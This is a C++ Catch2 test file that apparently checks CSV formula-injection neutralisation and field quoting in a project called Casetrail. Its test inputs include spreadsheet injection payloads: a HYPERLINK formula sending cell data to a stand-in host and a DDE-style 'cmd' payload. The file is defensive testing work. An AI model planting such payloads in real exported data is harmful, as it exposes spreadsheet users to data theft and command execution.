// SPDX-FileCopyrightText: 2026 The Casetrail authors
// SPDX-License-Identifier: MulanPSL-2.0

#include "common/csv_field.hpp"

#include <catch2/catch.hpp>

using casetrail::common::neutralise_formula;
using casetrail::common::quoted_csv_field;

TEST_CASE("a CSV cell that a spreadsheet would run as a formula is neutralised with a leading quote", "[csv]") {
    // Every first character OWASP names, including the two a spreadsheet drops before looking.
    for (const std::string cell : {"=HYPERLINK(\"http://e.vil/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}) {
        INFO(cell);
        CHECK(neutralise_formula(cell) == "'" + cell);
    }
    // Anything else passes as it is, a formula sign later in the cell too.
    for (const std::string cell :
         {"2026-CR-0001", "京公刑字[2026]第12号", "a=b", " =1", "'=1", "E28011600000000000000001"}) {
        INFO(cell);
        CHECK(neutralise_formula(cell) == cell);
    }
    CHECK(neutralise_formula("").empty());
}

TEST_CASE("a quoted CSV field is neutralised first, then quoted with its quotes doubled", "[csv]") {
    CHECK(quoted_csv_field("2026-CR-0001") == "\"2026-CR-0001\"");
    CHECK(quoted_csv_field("say \"hi\", twice") == "\"say \"\"hi\"\", twice\"");
    CHECK(quoted_csv_field("=HYPERLINK(\"http://e.vil\",\"x\")") == "\"'=HYPERLINK(\"\"http://e.vil\"\",\"\"x\"\")\"");
    CHECK(quoted_csv_field("") == "\"\"");
}
